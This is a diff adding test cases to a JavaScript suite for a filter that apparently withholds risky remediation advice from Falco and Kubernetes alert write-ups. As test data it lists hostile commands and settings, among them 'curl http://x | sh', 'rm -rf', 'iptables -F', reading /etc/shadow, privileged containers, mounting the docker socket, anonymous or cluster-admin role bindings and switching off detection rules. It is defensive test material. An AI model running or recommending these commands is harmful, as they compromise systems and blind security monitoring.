@@ -223,6 +223,94 @@ describe("a dangerous command", () => {
   });
 });
 
+describe("advice in other forms", () => {
+  it.each([
+    ["a command on a line of its own", "kubectl rollout undo deployment/checkout -n shop", /only reads/],
+    ["a command of an unknown program", "npx -y falco-fix@latest", /`npx`/],
+    ["a command behind a colon", "Log in to investigate: ssh root@db-02", /another machine/],
+    ["a mode in letters", "Let the script read it: chmod o+r /etc/shadow", /`chmod`/],
+    ["a file that is run", "Run the sample in a sandbox: `/tmp/xmrig --help`", /not a program/],
+    ["a capability", "Run the container with `--cap-add=ALL` to let the debugger attach.", /rights of the node/],
+    ["a rule that is switched off", "You may comment out the rule Terminal shell in container.", /switches a rule off/],
+    ["a key that switches a rule off", "If it is noisy, set `enabled: false` on the rule.", /switches a rule off/],
+    ["a restarted sensor", "As a mitigation, restart the Falco service.", /restarts the sensor/],
+    ["a container with all rights", "Set `securityContext.privileged` to true.", /rights of the node/],
+    ["an event marked as false", "It is legitimate, so mark it as a false positive.", /calls the event harmless/],
+    ["a scaled sensor", "Scale Falco down to zero until the incident is over.", /blinds the sensor/],
+    ["a sensor that blocks", "Falco will block the connection in enforcing mode.", /detects only/],
+    ["an event called harmless", "This activity is normal and can be safely ignored.", /calls the event harmless/],
+    ["an alert that is closed", "No further action is required; close the alert.", /calls the event harmless/],
+    ["an account file edited", "Edit /etc/shadow and remove the hash of the user.", /edits the machine's accounts/],
+    ["an open door in a file", "Set `PermitRootLogin yes` for the responders.", /lets strangers in/],
+    ["an open door in a role", "Bind the `view` role to system:anonymous for the scrapers.", /lets strangers in/],
+    ["evidence deleted", "Delete the malicious binary from the container right away.", /deletes the evidence/],
+    ["the runtime's socket", "Mount the docker socket into the responder's pod.", /container runtime/],
+  ])("is withheld with its reason: %s", (_, document, reason) => {
+    expect(withheld(document).map((item) => item.reason)).toContainEqual(expect.stringMatching(reason));
+  });
+
+  it.each([
+    ["the role of the cluster's administrator", "cluster-admin", "default", /binds the role cluster-admin/],
+    ["a role for everybody", "view", "system:anonymous", /which is everybody/],
+  ])("is withheld where a document gives away %s", (_, role, subject, reason) => {
+    const binding = {
+      apiVersion: "rbac.authorization.k8s.io/v1",
+      kind: "ClusterRoleBinding",
+      metadata: { name: "x" },
+      roleRef: { apiGroup: "rbac.authorization.k8s.io", kind: "ClusterRole", name: role },
+      subjects: [{ kind: "User", apiGroup: "rbac.authorization.k8s.io", name: subject }],
+    };
+
+    expect(withheld(`\`\`\`json\n${JSON.stringify(binding)}\n\`\`\``)).toMatchObject([
+      { reason: expect.stringMatching(reason) },
+    ]);
+  });
+
+  it("is withheld where a condition compares stars as they stand", () => {
+    const rule = `\`\`\`yaml
+- rule: A shell
+  desc: a shell
+  condition: evt.type = execve and proc.name == "*sh*"
+  output: shell (user=%user.name)
+  priority: WARNING
+\`\`\``;
+
+    expect(withheld(rule)).toMatchObject([{ reason: expect.stringMatching(/compares exactly.*`proc\.name ==/) }]);
+  });
+});
+
+describe("a sentence that tells what others did", () => {
+  it.each([
+    "A terminal was attached: somebody ran `kubectl exec -it` or `docker exec -it`.",
+    "Somebody who ran `kubectl exec` would show up in the audit log.",
+    "A `curl … | sh` in the logs would show how the file came.",
+    "An attacker who has a shell here could read the token or use `curl http://169.254.169.254/`.",
+    "Do not restart Falco and do not disable the rule.",
+    "Disabling the rule would hide the next one.",
+    "Falco only detects: it did not stop the read.",
+    "It fires for `kubectl exec -it` and for an entrypoint with `tty: true`.",
+    "Confirm with the team before you close the alert.",
+  ])("is no advice: %s", (document) => {
+    expect(withheld(document)).toEqual([]);
+  });
+
+  it.each([
+    "Someone should run `rm -rf /tmp/x`.",
+    "Run what the attacker ran: `curl http://x | sh`",
+    "Fix: somebody ran `iptables -F` and it helped.",
+  ])("hides no advice: %s", (document) => {
+    expect(withheld(document)).not.toEqual([]);
+  });
+});
+
+describe("a path in the alert's command line", () => {
+  it("is not called a stranger", () => {
+    const command = 'ls -l "/root/.falco/7.3.0+driver/x86_64/falco_ubuntu-generic_5.4.0-198-generic_218.ko"';
+
+    expect(withheld(`Look at it: \`${command}\``, fixture("report-2"))).toEqual([]);
+  });
+});
+
 describe("a hostile document", () => {
   const pieces = fc.constantFrom(
     ...'```\n|~~~\n|    |- |1. |> |`|``|<pre>|</code>|<!--|-->|**|__|[a](javascript:x)|![a](b)|| a | b |\n|---|\n|\n\n|\u200B|\u202E|&#0;|&#xFFFFFF;|{{x}}|[[y]]|rm -rf /|kubectl|{"run":|"}|:|#|\\'.split(
